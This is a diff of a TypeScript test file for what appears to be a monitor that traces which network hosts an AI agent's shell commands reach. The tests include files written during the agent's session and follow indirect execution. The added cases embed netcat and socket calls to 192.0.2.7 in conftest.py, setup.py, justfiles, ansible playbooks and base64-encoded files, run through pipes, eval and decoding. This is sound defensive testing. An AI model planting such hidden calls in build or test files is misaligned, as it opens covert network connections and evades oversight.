@@ -26,6 +26,18 @@ describe('files of the session that a command runs', () => {
     ['docker build -t a .', { '~/project/Dockerfile': 'FROM b\nRUN nc 192.0.2.7 1\n' }],
     ['docker compose up -d', { '~/project/compose.yml': POD }],
     ['kubectl apply -f a.yaml', { '~/project/a.yaml': POD }],
+    ['pytest tests/test_x.py::test_a', { '~/project/tests/test_x.py': 'import os\nos.system("nc 192.0.2.7 1")' }],
+    ['pytest', { '~/project/conftest.py': 'import os\nos.system("nc 192.0.2.7 1")' }],
+    ['npx tsx x.ts', { '~/project/x.ts': `require('child_process').exec('nc 192.0.2.7 1')` }],
+    ['node x', { '~/project/x.js': `require('child_process').exec('nc 192.0.2.7 1')` }],
+    ['pip install -e .', { '~/project/setup.py': 'import os\nos.system("nc 192.0.2.7 1")' }],
+    ['ansible-playbook p.yml', { '~/project/p.yml': '- hosts: a\n  tasks:\n  - shell: nc 192.0.2.7 1\n' }],
+    ['just x', { '~/project/justfile': 'x:\n  nc 192.0.2.7 1\n' }],
+    ['bash < a', { '~/project/a': 'nc 192.0.2.7 1' }],
+    ['cat a | sh', { '~/project/a': 'nc 192.0.2.7 1' }],
+    ['cp a /tmp/b && bash /tmp/b', { '~/project/a': 'nc 192.0.2.7 1' }],
+    ['base64 -d a | sh', { '~/project/a': 'bmMgMTkyLjAuMi43IDE=' }],
+    ['eval "$(base64 -d < sub/a)"', { '/home/dev/project/sub/a': 'bmMgMTkyLjAuMi43IDE=' }],
     ['crontab table', { '~/project/table': '* * * * * nc 192.0.2.7 1\n' }],
     ['python3 -m rev', { '~/project/rev.py': 'import socket\nsocket.socket().connect(("192.0.2.7",1))' }],
     ['python3 -W ignore ./rev.py', { '~/project/rev.py': 'import socket\nsocket.socket().connect(("192.0.2.7",1))' }],
@@ -38,6 +50,17 @@ describe('files of the session that a command runs', () => {
   it('follows what one text writes, builds and runs', () => {
     expect(reached(`cat > x.c <<'E'\n${C}\nE\ngcc x.c`)).toEqual(['192.0.2.7']);
     expect(reached(`printf 'all:\\n\\tnc 192.0.2.7 1\\n' > Makefile; make`)).toEqual(['192.0.2.7']);
+  });
+
+  it('knows what is copied or decoded into another file', () => {
+    const writes = (command: string) => {
+      const filesWritten = new Map([['~/project/a', { content: 'bmM=' }]]);
+      const event = { action: { type: 'exec', tool: 'Bash', command } } as AgentEvent;
+      return analyse(event, { cwd: '/home/dev/project', filesWritten }).command?.writes;
+    };
+    expect(writes('mv a b')).toEqual([{ path: '/home/dev/project/b', content: 'bmM=', append: false }]);
+    expect(writes('base64 -d a > /tmp/c')).toEqual([{ path: '/tmp/c', content: 'nc', append: false }]);
+    expect(writes('cat a; wc -l a')).toEqual([]);
   });
 
   it('runs only the script that is asked for', () => {
